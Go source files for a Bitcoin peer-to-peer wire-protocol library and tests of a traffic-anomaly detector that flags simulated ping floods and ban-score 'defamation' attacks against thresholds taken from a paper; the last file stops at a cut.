	defamation := WindowsFromEvents(traffic.Overlay(normal2, defEvents), reconnects, DefaultWindow)

	vb, _ := engine.DetectAll(bmdos)
	vd, _ := engine.DetectAll(defamation)
	meanRho := func(vs []Detection) float64 {
		sum := 0.0
		for _, v := range vs {
			sum += v.Rho
		}
		return sum / float64(len(vs))
	}
	// The paper's ordering: ρ(BM-DoS)=0.05 ≪ ρ(Defamation)=0.88 < τ_Λ.
	if meanRho(vb) >= meanRho(vd) {
		t.Errorf("ρ(BM-DoS)=%v should be far below ρ(Defamation)=%v", meanRho(vb), meanRho(vd))
	}
}

func TestDetectionAccuracy100OnNonEvasiveAttacker(t *testing.T) {
	engine := trainEngine(t, 35)
	start := t0.Add(500 * time.Hour)

	var windows []WindowStats
	var labels []bool

	normal := WindowsFromEvents(traffic.NewGenerator(19).Events(start, time.Hour), nil, DefaultWindow)
	for _, w := range normal {
		windows = append(windows, w)
		labels = append(labels, false)
	}
	atk := start.Add(24 * time.Hour)
	flood := traffic.Overlay(
		traffic.NewGenerator(23).Events(atk, time.Hour),
		traffic.FloodEvents(wire.CmdPing, atk, time.Hour, 15000),
	)
	for _, w := range WindowsFromEvents(flood, nil, DefaultWindow) {
		windows = append(windows, w)
		labels = append(labels, true)
	}
	verdicts, _ := engine.DetectAll(windows)
	if acc := Accuracy(verdicts, labels); acc != 1.0 {
		t.Errorf("accuracy = %v, want 1.0 (paper: attacker makes no evasion effort)", acc)
	}
}

func TestAccuracyEdgeCases(t *testing.T) {
	if Accuracy(nil, nil) != 0 {
		t.Error("empty accuracy should be 0")
	}
	if Accuracy([]Detection{{Anomalous: true}}, []bool{true, false}) != 0 {
		t.Error("mismatched lengths should be 0")
	}
}

func TestDetectionReasons(t *testing.T) {
	d := Detection{}
	if d.Reasons() != "normal" {
		t.Errorf("Reasons = %q", d.Reasons())
	}
	d = Detection{TriggeredC: true, TriggeredN: true, TriggeredLambda: true}
	if d.Reasons() == "normal" || d.Reasons() == "" {
		t.Error("triggered reasons missing")
	}
}

func TestNewEngineFromExplicitThresholds(t *testing.T) {
	// The paper's published thresholds, used directly.
	engine := NewEngine(Thresholds{
		CMin: 0, CMax: 2.1,
		NMin: 252, NMax: 390,
		LambdaMin: 0.993,
		Commands:  []string{"ping", "tx"},
		Reference: []float64{0.1, 0.9},
	})
	w := WindowStats{
		Start:    t0,
		Duration: 10 * time.Minute,
		Counts:   map[string]float64{"ping": 150000, "tx": 3000},
		Messages: 153000,
	}
	d := engine.Detect(w)
	if !d.Anomalous || !d.TriggeredN || !d.TriggeredLambda {
		t.Errorf("detection = %+v", d)
	}
}

func TestTrainingLatencyReported(t *testing.T) {
	gen := traffic.NewGenerator(42)
	events := gen.Events(t0, 2*time.Hour)
	windows := WindowsFromEvents(events, nil, DefaultWindow)
	_, dur, err := Train(windows, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if dur <= 0 {
		t.Error("training latency not measured")
	}
}

func TestMonitorConcurrentSafe(t *testing.T) {
	m := NewMonitor(time.Minute)
	var wg sync.WaitGroup
	base := time.Unix(1700000000, 0)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				at := base.Add(time.Duration(i) * 10 * time.Millisecond)
				if g%2 == 0 {
					m.OnMessage(wire.CmdTx, at)
				} else {
					m.OnOutboundReconnect(at)
				}
			}
		}(g)
	}
	wg.Wait()
	windows := m.Flush()
	totalMsgs, totalRecs := 0, 0
	for _, w := range windows {
		totalMsgs += w.Messages
		totalRecs += w.Reconnects
	}
	if totalMsgs != 4*500 || totalRecs != 4*500 {
		t.Errorf("counted %d msgs / %d reconnects, want 2000 each", totalMsgs, totalRecs)
	}
}

func TestTrainMarginWidensBounds(t *testing.T) {
	gen := traffic.NewGenerator(42)
	windows := WindowsFromEvents(gen.Events(t0, 4*time.Hour), nil, DefaultWindow)
	tight, _, err := Train(windows, Config{Margin: 1.0})
	if err != nil {
		t.Fatal(err)
	}
	wide, _, err := Train(windows, Config{Margin: 1.5})
	if err != nil {
		t.Fatal(err)
	}
	tt, wt := tight.Thresholds(), wide.Thresholds()
	if !(wt.NMin < tt.NMin && wt.NMax > tt.NMax) {
		t.Errorf("margin did not widen n bounds: tight=[%v,%v] wide=[%v,%v]", tt.NMin, tt.NMax, wt.NMin, wt.NMax)
	}
	if wt.LambdaMin >= tt.LambdaMin {
		t.Errorf("margin did not relax τ_Λ: %v vs %v", tt.LambdaMin, wt.LambdaMin)
	}
	if wt.CMax <= tt.CMax {
		t.Errorf("margin did not widen τ_c: %v vs %v", tt.CMax, wt.CMax)
	}
}
