package wire

import (
	"fmt"
	"io"

	"banscore/internal/chainhash"
)

// MsgSendCmpct implements the Message interface and represents a SENDCMPCT
// message (BIP152) negotiating compact-block relay.
type MsgSendCmpct struct {
	// Announce requests announcement via CMPCTBLOCK when true.
	Announce bool

	// Version of compact blocks requested (1 legacy, 2 segwit).
	Version uint64
}

var _ Message = (*MsgSendCmpct)(nil)

// NewMsgSendCmpct returns a SENDCMPCT with the given parameters.
func NewMsgSendCmpct(announce bool, version uint64) *MsgSendCmpct {
	return &MsgSendCmpct{Announce: announce, Version: version}
}

// BtcDecode decodes the SENDCMPCT message.
func (msg *MsgSendCmpct) BtcDecode(r io.Reader, _ uint32) error {
	announce, err := readBool(r)
	if err != nil {
		return err
	}
	msg.Announce = announce
	msg.Version, err = readUint64(r)
	return err
}

// BtcEncode encodes the SENDCMPCT message.
func (msg *MsgSendCmpct) BtcEncode(w io.Writer, _ uint32) error {
	if err := writeBool(w, msg.Announce); err != nil {
		return err
	}
	return writeUint64(w, msg.Version)
}

// Command returns the protocol command string.
func (msg *MsgSendCmpct) Command() string { return CmdSendCmpct }

// MaxPayloadLength returns the maximum payload a SENDCMPCT message can be.
func (msg *MsgSendCmpct) MaxPayloadLength(uint32) uint32 { return 9 }

// PrefilledTx is a transaction sent verbatim inside a CMPCTBLOCK, with its
// index differentially encoded.
type PrefilledTx struct {
	Index uint32
	Tx    *MsgTx
}

// maxShortIDsPerBlock caps the short id list of a compact block.
const maxShortIDsPerBlock = maxTxPerMsg

// MsgCmpctBlock implements the Message interface and represents a CMPCTBLOCK
// message (BIP152): header, nonce, 6-byte short ids, and prefilled txs.
type MsgCmpctBlock struct {
	Header       BlockHeader
	Nonce        uint64
	ShortIDs     []uint64 // low 48 bits significant
	PrefilledTxs []*PrefilledTx
}

var _ Message = (*MsgCmpctBlock)(nil)

// NewMsgCmpctBlock returns a CMPCTBLOCK for the given header.
func NewMsgCmpctBlock(header *BlockHeader) *MsgCmpctBlock {
	return &MsgCmpctBlock{Header: *header}
}

// BtcDecode decodes the CMPCTBLOCK message.
func (msg *MsgCmpctBlock) BtcDecode(r io.Reader, pver uint32) error {
	if err := readBlockHeader(r, &msg.Header); err != nil {
		return err
	}
	var err error
	if msg.Nonce, err = readUint64(r); err != nil {
		return err
	}
	count, err := ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > maxShortIDsPerBlock {
		return messageError("MsgCmpctBlock.BtcDecode",
			fmt.Sprintf("too many short ids [%d, max %d]", count, maxShortIDsPerBlock))
	}
	msg.ShortIDs = make([]uint64, count)
	for i := uint64(0); i < count; i++ {
		var b [6]byte
		if _, err := io.ReadFull(r, b[:]); err != nil {
			return err
		}
		msg.ShortIDs[i] = uint64(b[0]) | uint64(b[1])<<8 | uint64(b[2])<<16 |
			uint64(b[3])<<24 | uint64(b[4])<<32 | uint64(b[5])<<40
	}
	count, err = ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > maxShortIDsPerBlock {
		return messageError("MsgCmpctBlock.BtcDecode",
			fmt.Sprintf("too many prefilled txs [%d, max %d]", count, maxShortIDsPerBlock))
	}
	msg.PrefilledTxs = make([]*PrefilledTx, 0, count)
	for i := uint64(0); i < count; i++ {
		idx, err := ReadVarInt(r)
		if err != nil {
			return err
		}
		tx := MsgTx{}
		if err := tx.BtcDecode(r, pver); err != nil {
			return err
		}
		msg.PrefilledTxs = append(msg.PrefilledTxs, &PrefilledTx{Index: uint32(idx), Tx: &tx})
	}
	return nil
}

// BtcEncode encodes the CMPCTBLOCK message.
func (msg *MsgCmpctBlock) BtcEncode(w io.Writer, pver uint32) error {
	if err := writeBlockHeader(w, &msg.Header); err != nil {
		return err
	}
	if err := writeUint64(w, msg.Nonce); err != nil {
		return err
	}
	if err := WriteVarInt(w, uint64(len(msg.ShortIDs))); err != nil {
		return err
	}
	for _, id := range msg.ShortIDs {
		b := [6]byte{
			byte(id), byte(id >> 8), byte(id >> 16),
			byte(id >> 24), byte(id >> 32), byte(id >> 40),
		}
		if _, err := w.Write(b[:]); err != nil {
			return err
		}
	}
	if err := WriteVarInt(w, uint64(len(msg.PrefilledTxs))); err != nil {
		return err
	}
	for _, ptx := range msg.PrefilledTxs {
		if err := WriteVarInt(w, uint64(ptx.Index)); err != nil {
			return err
		}
		if err := ptx.Tx.BtcEncode(w, pver); err != nil {
			return err
		}
	}
	return nil
}

// Command returns the protocol command string.
func (msg *MsgCmpctBlock) Command() string { return CmdCmpctBlock }

// MaxPayloadLength returns the maximum payload a CMPCTBLOCK message can be.
func (msg *MsgCmpctBlock) MaxPayloadLength(uint32) uint32 { return MaxBlockPayload }

// MsgGetBlockTxn implements the Message interface and represents a
// GETBLOCKTXN message (BIP152) requesting transactions of a compact block by
// differentially-encoded index. Out-of-bounds indices score 100 per Table I
// ("GETBLOCKTXN: Out-of-bounds transaction indices") — bounds are checked by
// the node against the referenced block, not at decode time.
type MsgGetBlockTxn struct {
	BlockHash chainhash.Hash
	// Indexes are absolute transaction indexes (differential on the wire).
	Indexes []uint32
}

var _ Message = (*MsgGetBlockTxn)(nil)

// NewMsgGetBlockTxn returns a GETBLOCKTXN for the given block.
func NewMsgGetBlockTxn(blockHash *chainhash.Hash, indexes []uint32) *MsgGetBlockTxn {
	return &MsgGetBlockTxn{BlockHash: *blockHash, Indexes: indexes}
}

// BtcDecode decodes the GETBLOCKTXN message, converting differential indexes
// to absolute ones.
func (msg *MsgGetBlockTxn) BtcDecode(r io.Reader, _ uint32) error {
	if err := readHash(r, &msg.BlockHash); err != nil {
		return err
	}
	count, err := ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > maxShortIDsPerBlock {
		return messageError("MsgGetBlockTxn.BtcDecode",
			fmt.Sprintf("too many indexes [%d, max %d]", count, maxShortIDsPerBlock))
	}
	msg.Indexes = make([]uint32, count)
	offset := uint64(0)
	for i := uint64(0); i < count; i++ {
		diff, err := ReadVarInt(r)
		if err != nil {
			return err
		}
		offset += diff
		if offset > 0xffffffff {
			return messageError("MsgGetBlockTxn.BtcDecode", "index overflow")
		}
		msg.Indexes[i] = uint32(offset)
		offset++
	}
	return nil
}

// BtcEncode encodes the GETBLOCKTXN message using differential indexes.
func (msg *MsgGetBlockTxn) BtcEncode(w io.Writer, _ uint32) error {
	if err := writeHash(w, &msg.BlockHash); err != nil {
		return err
	}
	if err := WriteVarInt(w, uint64(len(msg.Indexes))); err != nil {
		return err
	}
	prev := uint64(0)
	for i, idx := range msg.Indexes {
		cur := uint64(idx)
		if i > 0 && cur < prev {
			return messageError("MsgGetBlockTxn.BtcEncode", "indexes must be ascending")
		}
		diff := cur - prev
		if err := WriteVarInt(w, diff); err != nil {
			return err
		}
		prev = cur + 1
	}
	return nil
}

// Command returns the protocol command string.
func (msg *MsgGetBlockTxn) Command() string { return CmdGetBlockTxn }

// MaxPayloadLength returns the maximum payload a GETBLOCKTXN message can be.
func (msg *MsgGetBlockTxn) MaxPayloadLength(uint32) uint32 {
	return chainhash.HashSize + MaxVarIntPayload + maxShortIDsPerBlock*MaxVarIntPayload
}

// MsgBlockTxn implements the Message interface and represents a BLOCKTXN
// message (BIP152) answering GETBLOCKTXN with the requested transactions.
type MsgBlockTxn struct {
	BlockHash chainhash.Hash
	Txs       []*MsgTx
}

var _ Message = (*MsgBlockTxn)(nil)

// NewMsgBlockTxn returns a BLOCKTXN for the given block and transactions.
func NewMsgBlockTxn(blockHash *chainhash.Hash, txs []*MsgTx) *MsgBlockTxn {
	return &MsgBlockTxn{BlockHash: *blockHash, Txs: txs}
}

// BtcDecode decodes the BLOCKTXN message.
func (msg *MsgBlockTxn) BtcDecode(r io.Reader, pver uint32) error {
	if err := readHash(r, &msg.BlockHash); err != nil {
		return err
	}
	count, err := ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > maxTxPerMsg {
		return messageError("MsgBlockTxn.BtcDecode",
			fmt.Sprintf("too many transactions [%d, max %d]", count, maxTxPerMsg))
	}
	msg.Txs = make([]*MsgTx, 0, count)
	for i := uint64(0); i < count; i++ {
		tx := MsgTx{}
		if err := tx.BtcDecode(r, pver); err != nil {
			return err
		}
		msg.Txs = append(msg.Txs, &tx)
	}
	return nil
}

// BtcEncode encodes the BLOCKTXN message.
func (msg *MsgBlockTxn) BtcEncode(w io.Writer, pver uint32) error {
	if err := writeHash(w, &msg.BlockHash); err != nil {
		return err
	}
	if err := WriteVarInt(w, uint64(len(msg.Txs))); err != nil {
		return err
	}
	for _, tx := range msg.Txs {
		if err := tx.BtcEncode(w, pver); err != nil {
			return err
		}
	}
	return nil
}

// Command returns the protocol command string.
func (msg *MsgBlockTxn) Command() string { return CmdBlockTxn }

// MaxPayloadLength returns the maximum payload a BLOCKTXN message can be.
func (msg *MsgBlockTxn) MaxPayloadLength(uint32) uint32 { return MaxBlockPayload }
