package wire

import (
	"bytes"
	"sync"
	"testing"
)

func TestGetBufClasses(t *testing.T) {
	cases := []struct {
		n       int
		wantCap int
	}{
		{0, 256},
		{1, 256},
		{256, 256},
		{257, 4 << 10},
		{4 << 10, 4 << 10},
		{(4 << 10) + 1, 64 << 10},
		{MaxMessagePayload, MaxMessagePayload},
	}
	for _, c := range cases {
		b := GetBuf(c.n)
		if b.Len() != c.n {
			t.Errorf("GetBuf(%d).Len() = %d", c.n, b.Len())
		}
		if cap(b.Bytes()) != c.wantCap {
			t.Errorf("GetBuf(%d) cap = %d, want class %d", c.n, cap(b.Bytes()), c.wantCap)
		}
		b.Release()
	}

	// Oversize requests are plain allocations that never enter a pool.
	huge := GetBuf(MaxMessagePayload + 1)
	if huge.Len() != MaxMessagePayload+1 {
		t.Fatalf("oversize len %d", huge.Len())
	}
	huge.Release() // must be a safe no-op
}

func TestBufRecycling(t *testing.T) {
	b := GetBuf(100)
	p := &b.Bytes()[0]
	b.Release()
	// Pools are per-P caches; single-goroutine Get after Put returns the
	// same object in practice, proving the class round-trips.
	b2 := GetBuf(50)
	defer b2.Release()
	if &b2.Bytes()[0] != p {
		t.Skip("pool did not recycle (GC or scheduler interference); nothing to assert")
	}
	if b2.Len() != 50 {
		t.Fatalf("recycled len %d, want 50", b2.Len())
	}
}

func TestBufWriteGrowthPromotesClass(t *testing.T) {
	b := GetBuf(MessageHeaderSize)
	payload := bytes.Repeat([]byte{0xaa}, 3000)
	if _, err := b.Write(payload); err != nil {
		t.Fatal(err)
	}
	if b.Len() != MessageHeaderSize+3000 {
		t.Fatalf("len %d", b.Len())
	}
	if cap(b.Bytes()) != 4<<10 {
		t.Fatalf("grown cap %d, want promoted class %d", cap(b.Bytes()), 4<<10)
	}
	if got := b.Bytes()[MessageHeaderSize:]; !bytes.Equal(got, payload) {
		t.Fatal("contents lost across growth")
	}
	b.Release()

	// Growth past the largest class detaches: Release must not pool it.
	d := GetBuf(MaxMessagePayload)
	if _, err := d.Write([]byte{1}); err != nil {
		t.Fatal(err)
	}
	d.Release() // no-op; would corrupt the pool if it entered one
}

func TestBufDetachNoAlias(t *testing.T) {
	b := GetBuf(8)
	copy(b.Bytes(), "detached")
	p := b.Detach()
	b.Release() // no-op after Detach
	if string(p) != "detached" {
		t.Fatalf("detached contents %q", p)
	}
	// The detached slice must survive further pool traffic untouched.
	for i := 0; i < 64; i++ {
		x := GetBuf(8)
		copy(x.Bytes(), "overwrit")
		x.Release()
	}
	if string(p) != "detached" {
		t.Fatalf("detached slice mutated by pool reuse: %q", p)
	}
}

func TestBufNilSafety(t *testing.T) {
	var b *Buf
	if b.Bytes() != nil || b.Len() != 0 {
		t.Fatal("nil Buf accessors not safe")
	}
	b.Release()
	if b.Detach() != nil {
		t.Fatal("nil Detach")
	}
}

func TestBufConcurrentPoolTraffic(t *testing.T) {
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			sizes := []int{1, 100, 300, 5000, 70000}
			for i := 0; i < 500; i++ {
				n := sizes[(seed+i)%len(sizes)]
				b := GetBuf(n)
				for j := 0; j < len(b.Bytes()); j += 97 {
					b.Bytes()[j] = byte(seed)
				}
				if b.Len() != n {
					panic("len mismatch")
				}
				b.Release()
			}
		}(g)
	}
	wg.Wait()
}
