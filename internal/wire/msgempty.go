package wire

import "io"

// emptyMessage is the shared implementation of the five payload-less
// messages. Each concrete type still exists so a type switch on the decoded
// message is exhaustive and self-documenting.
type emptyMessage struct{}

func (emptyMessage) BtcDecode(io.Reader, uint32) error { return nil }
func (emptyMessage) BtcEncode(io.Writer, uint32) error { return nil }
func (emptyMessage) MaxPayloadLength(uint32) uint32    { return 0 }

// MsgVerAck implements the Message interface and represents a VERACK
// message, the acknowledgement half of the version handshake.
type MsgVerAck struct{ emptyMessage }

// Command returns the protocol command string.
func (*MsgVerAck) Command() string { return CmdVerAck }

// MsgGetAddr implements the Message interface and represents a GETADDR
// message requesting known peer addresses.
type MsgGetAddr struct{ emptyMessage }

// Command returns the protocol command string.
func (*MsgGetAddr) Command() string { return CmdGetAddr }

// MsgMemPool implements the Message interface and represents a MEMPOOL
// message requesting the contents of the peer's memory pool.
type MsgMemPool struct{ emptyMessage }

// Command returns the protocol command string.
func (*MsgMemPool) Command() string { return CmdMemPool }

// MsgSendHeaders implements the Message interface and represents a
// SENDHEADERS message (BIP130) asking for direct header announcements.
type MsgSendHeaders struct{ emptyMessage }

// Command returns the protocol command string.
func (*MsgSendHeaders) Command() string { return CmdSendHeaders }

// MsgFilterClear implements the Message interface and represents a
// FILTERCLEAR message removing the loaded bloom filter.
type MsgFilterClear struct{ emptyMessage }

// Command returns the protocol command string.
func (*MsgFilterClear) Command() string { return CmdFilterClear }

var (
	_ Message = (*MsgVerAck)(nil)
	_ Message = (*MsgGetAddr)(nil)
	_ Message = (*MsgMemPool)(nil)
	_ Message = (*MsgSendHeaders)(nil)
	_ Message = (*MsgFilterClear)(nil)
)
