package wire

import (
	"bytes"
	"fmt"
	"io"

	"banscore/internal/chainhash"
)

// Command strings for all 26 P2P messages of the developer reference.
const (
	CmdVersion     = "version"
	CmdVerAck      = "verack"
	CmdAddr        = "addr"
	CmdGetAddr     = "getaddr"
	CmdInv         = "inv"
	CmdGetData     = "getdata"
	CmdNotFound    = "notfound"
	CmdGetBlocks   = "getblocks"
	CmdGetHeaders  = "getheaders"
	CmdHeaders     = "headers"
	CmdTx          = "tx"
	CmdBlock       = "block"
	CmdMemPool     = "mempool"
	CmdPing        = "ping"
	CmdPong        = "pong"
	CmdReject      = "reject"
	CmdFilterLoad  = "filterload"
	CmdFilterAdd   = "filteradd"
	CmdFilterClear = "filterclear"
	CmdMerkleBlock = "merkleblock"
	CmdSendHeaders = "sendheaders"
	CmdFeeFilter   = "feefilter"
	CmdSendCmpct   = "sendcmpct"
	CmdCmpctBlock  = "cmpctblock"
	CmdGetBlockTxn = "getblocktxn"
	CmdBlockTxn    = "blocktxn"
)

// Transaction constants.
const (
	// TxVersion is the current default transaction version.
	TxVersion = 2

	// MaxTxInSequenceNum is the maximum sequence number a TxIn can carry.
	MaxTxInSequenceNum uint32 = 0xffffffff

	// MaxPrevOutIndex is the maximum index an OutPoint can carry.
	MaxPrevOutIndex uint32 = 0xffffffff

	// maxTxPerMsg caps the transaction count sanity check during decode.
	maxTxPerMsg = 100000

	// maxScriptSize caps a script during decode.
	maxScriptSize = 10000

	// maxWitnessItemsPerInput / maxWitnessItemSize cap witness decode.
	maxWitnessItemsPerInput = 500000
	maxWitnessItemSize      = 11000

	// TxFlagMarker is the first byte of the optional segwit flag field.
	TxFlagMarker = 0x00

	// WitnessFlag indicates witness data is present.
	WitnessFlag = 0x01

	// MaxSatoshi is 21 million coins in satoshi units, the most a TxOut
	// value can hold.
	MaxSatoshi int64 = 21e6 * 1e8
)

// OutPoint identifies a previous transaction output.
type OutPoint struct {
	Hash  chainhash.Hash
	Index uint32
}

// NewOutPoint returns an OutPoint for the given hash and index.
func NewOutPoint(hash *chainhash.Hash, index uint32) *OutPoint {
	return &OutPoint{Hash: *hash, Index: index}
}

// String renders the outpoint as "hash:index".
func (o OutPoint) String() string {
	return fmt.Sprintf("%s:%d", o.Hash, o.Index)
}

// TxIn is a transaction input.
type TxIn struct {
	PreviousOutPoint OutPoint
	SignatureScript  []byte
	Witness          TxWitness
	Sequence         uint32
}

// NewTxIn returns a TxIn with the maximum sequence number.
func NewTxIn(prevOut *OutPoint, signatureScript []byte, witness TxWitness) *TxIn {
	return &TxIn{
		PreviousOutPoint: *prevOut,
		SignatureScript:  signatureScript,
		Witness:          witness,
		Sequence:         MaxTxInSequenceNum,
	}
}

// TxWitness is the witness stack of a single input.
type TxWitness [][]byte

// SerializeSize returns the wire size of the witness stack.
func (t TxWitness) SerializeSize() int {
	n := VarIntSerializeSize(uint64(len(t)))
	for _, item := range t {
		n += VarIntSerializeSize(uint64(len(item))) + len(item)
	}
	return n
}

// TxOut is a transaction output.
type TxOut struct {
	Value    int64
	PkScript []byte
}

// NewTxOut returns a TxOut with the given value and script.
func NewTxOut(value int64, pkScript []byte) *TxOut {
	return &TxOut{Value: value, PkScript: pkScript}
}

// MsgTx implements the Message interface and represents a Bitcoin TX message
// (and the transaction structure embedded in blocks).
type MsgTx struct {
	Version  int32
	TxIn     []*TxIn
	TxOut    []*TxOut
	LockTime uint32
}

var _ Message = (*MsgTx)(nil)

// NewMsgTx returns an empty transaction of the given version.
func NewMsgTx(version int32) *MsgTx {
	return &MsgTx{Version: version}
}

// AddTxIn appends a transaction input.
func (msg *MsgTx) AddTxIn(ti *TxIn) { msg.TxIn = append(msg.TxIn, ti) }

// AddTxOut appends a transaction output.
func (msg *MsgTx) AddTxOut(to *TxOut) { msg.TxOut = append(msg.TxOut, to) }

// HasWitness reports whether any input carries witness data.
func (msg *MsgTx) HasWitness() bool {
	for _, ti := range msg.TxIn {
		if len(ti.Witness) != 0 {
			return true
		}
	}
	return false
}

// TxHash computes the transaction id: the double-SHA256 of the transaction
// serialized without witness data.
func (msg *MsgTx) TxHash() chainhash.Hash {
	buf := bytes.NewBuffer(make([]byte, 0, msg.baseSize()))
	_ = msg.serialize(buf, false)
	return chainhash.DoubleHashH(buf.Bytes())
}

// WitnessHash computes wtxid: the double-SHA256 including witness data. For
// transactions without witnesses this equals TxHash.
func (msg *MsgTx) WitnessHash() chainhash.Hash {
	if !msg.HasWitness() {
		return msg.TxHash()
	}
	buf := bytes.NewBuffer(make([]byte, 0, msg.SerializeSize()))
	_ = msg.serialize(buf, true)
	return chainhash.DoubleHashH(buf.Bytes())
}

// Copy returns a deep copy of the transaction.
func (msg *MsgTx) Copy() *MsgTx {
	newTx := MsgTx{
		Version:  msg.Version,
		LockTime: msg.LockTime,
		TxIn:     make([]*TxIn, 0, len(msg.TxIn)),
		TxOut:    make([]*TxOut, 0, len(msg.TxOut)),
	}
	for _, oldIn := range msg.TxIn {
		newIn := TxIn{
			PreviousOutPoint: oldIn.PreviousOutPoint,
			Sequence:         oldIn.Sequence,
			SignatureScript:  append([]byte(nil), oldIn.SignatureScript...),
		}
		if len(oldIn.Witness) != 0 {
			newIn.Witness = make(TxWitness, len(oldIn.Witness))
			for i, item := range oldIn.Witness {
				newIn.Witness[i] = append([]byte(nil), item...)
			}
		}
		newTx.TxIn = append(newTx.TxIn, &newIn)
	}
	for _, oldOut := range msg.TxOut {
		newTx.TxOut = append(newTx.TxOut, &TxOut{
			Value:    oldOut.Value,
			PkScript: append([]byte(nil), oldOut.PkScript...),
		})
	}
	return &newTx
}

// BtcDecode decodes the transaction from r.
func (msg *MsgTx) BtcDecode(r io.Reader, _ uint32) error {
	version, err := readUint32(r)
	if err != nil {
		return err
	}
	msg.Version = int32(version)

	count, err := ReadVarInt(r)
	if err != nil {
		return err
	}

	// A count of zero with a following WitnessFlag byte indicates a
	// segwit-serialized transaction.
	var flag byte
	if count == TxFlagMarker {
		if flag, err = readUint8(r); err != nil {
			return err
		}
		if flag != WitnessFlag {
			return messageError("MsgTx.BtcDecode", fmt.Sprintf("witness tx but flag byte is %x", flag))
		}
		if count, err = ReadVarInt(r); err != nil {
			return err
		}
	}
	if count > maxTxPerMsg {
		return messageError("MsgTx.BtcDecode", fmt.Sprintf("too many input transactions [%d]", count))
	}

	msg.TxIn = make([]*TxIn, count)
	for i := uint64(0); i < count; i++ {
		ti := &TxIn{}
		if err := readTxIn(r, ti); err != nil {
			return err
		}
		msg.TxIn[i] = ti
	}

	count, err = ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > maxTxPerMsg {
		return messageError("MsgTx.BtcDecode", fmt.Sprintf("too many output transactions [%d]", count))
	}
	msg.TxOut = make([]*TxOut, count)
	for i := uint64(0); i < count; i++ {
		to := &TxOut{}
		if err := readTxOut(r, to); err != nil {
			return err
		}
		msg.TxOut[i] = to
	}

	if flag != 0 {
		for _, ti := range msg.TxIn {
			witCount, err := ReadVarInt(r)
			if err != nil {
				return err
			}
			if witCount > maxWitnessItemsPerInput {
				return messageError("MsgTx.BtcDecode", fmt.Sprintf("too many witness items [%d]", witCount))
			}
			ti.Witness = make(TxWitness, witCount)
			for j := uint64(0); j < witCount; j++ {
				item, err := ReadVarBytes(r, maxWitnessItemSize, "script witness item")
				if err != nil {
					return err
				}
				ti.Witness[j] = item
			}
		}
	}

	msg.LockTime, err = readUint32(r)
	return err
}

// BtcEncode encodes the transaction to w, including witness data if present.
func (msg *MsgTx) BtcEncode(w io.Writer, _ uint32) error {
	return msg.serialize(w, true)
}

// Serialize writes the transaction in stored form (with witness if present).
func (msg *MsgTx) Serialize(w io.Writer) error { return msg.serialize(w, true) }

// SerializeNoWitness writes the transaction in legacy form.
func (msg *MsgTx) SerializeNoWitness(w io.Writer) error { return msg.serialize(w, false) }

// Deserialize reads the transaction in stored form.
func (msg *MsgTx) Deserialize(r io.Reader) error { return msg.BtcDecode(r, ProtocolVersion) }

func (msg *MsgTx) serialize(w io.Writer, withWitness bool) error {
	if err := writeUint32(w, uint32(msg.Version)); err != nil {
		return err
	}
	doWitness := withWitness && msg.HasWitness()
	if doWitness {
		if _, err := w.Write([]byte{TxFlagMarker, WitnessFlag}); err != nil {
			return err
		}
	}
	if err := WriteVarInt(w, uint64(len(msg.TxIn))); err != nil {
		return err
	}
	for _, ti := range msg.TxIn {
		if err := writeTxIn(w, ti); err != nil {
			return err
		}
	}
	if err := WriteVarInt(w, uint64(len(msg.TxOut))); err != nil {
		return err
	}
	for _, to := range msg.TxOut {
		if err := writeTxOut(w, to); err != nil {
			return err
		}
	}
	if doWitness {
		for _, ti := range msg.TxIn {
			if err := WriteVarInt(w, uint64(len(ti.Witness))); err != nil {
				return err
			}
			for _, item := range ti.Witness {
				if err := WriteVarBytes(w, item); err != nil {
					return err
				}
			}
		}
	}
	return writeUint32(w, msg.LockTime)
}

// baseSize is the serialized size without witness data.
func (msg *MsgTx) baseSize() int {
	n := 8 + VarIntSerializeSize(uint64(len(msg.TxIn))) + VarIntSerializeSize(uint64(len(msg.TxOut)))
	for _, ti := range msg.TxIn {
		n += 40 + VarIntSerializeSize(uint64(len(ti.SignatureScript))) + len(ti.SignatureScript)
	}
	for _, to := range msg.TxOut {
		n += 8 + VarIntSerializeSize(uint64(len(to.PkScript))) + len(to.PkScript)
	}
	return n
}

// SerializeSize returns the full serialized size including witness data.
func (msg *MsgTx) SerializeSize() int {
	n := msg.baseSize()
	if msg.HasWitness() {
		n += 2
		for _, ti := range msg.TxIn {
			n += ti.Witness.SerializeSize()
		}
	}
	return n
}

// Command returns the protocol command string.
func (msg *MsgTx) Command() string { return CmdTx }

// MaxPayloadLength returns the maximum payload a TX message can be.
func (msg *MsgTx) MaxPayloadLength(uint32) uint32 { return MaxBlockPayload }

func readTxIn(r io.Reader, ti *TxIn) error {
	if err := readOutPoint(r, &ti.PreviousOutPoint); err != nil {
		return err
	}
	script, err := ReadVarBytes(r, maxScriptSize, "transaction input signature script")
	if err != nil {
		return err
	}
	ti.SignatureScript = script
	ti.Sequence, err = readUint32(r)
	return err
}

func writeTxIn(w io.Writer, ti *TxIn) error {
	if err := writeOutPoint(w, &ti.PreviousOutPoint); err != nil {
		return err
	}
	if err := WriteVarBytes(w, ti.SignatureScript); err != nil {
		return err
	}
	return writeUint32(w, ti.Sequence)
}

func readTxOut(r io.Reader, to *TxOut) error {
	value, err := readUint64(r)
	if err != nil {
		return err
	}
	to.Value = int64(value)
	to.PkScript, err = ReadVarBytes(r, maxScriptSize, "transaction output public key script")
	return err
}

func writeTxOut(w io.Writer, to *TxOut) error {
	if err := writeUint64(w, uint64(to.Value)); err != nil {
		return err
	}
	return WriteVarBytes(w, to.PkScript)
}

func readOutPoint(r io.Reader, op *OutPoint) error {
	if err := readHash(r, &op.Hash); err != nil {
		return err
	}
	var err error
	op.Index, err = readUint32(r)
	return err
}

func writeOutPoint(w io.Writer, op *OutPoint) error {
	if err := writeHash(w, &op.Hash); err != nil {
		return err
	}
	return writeUint32(w, op.Index)
}
