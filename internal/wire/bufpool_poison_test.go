//go:build poolpoison

package wire

import (
	"bytes"
	"testing"
)

// TestPoisonOnRelease proves the use-after-Release tripwire: with the
// poolpoison tag, Release overwrites the buffer's full capacity with 0xdb,
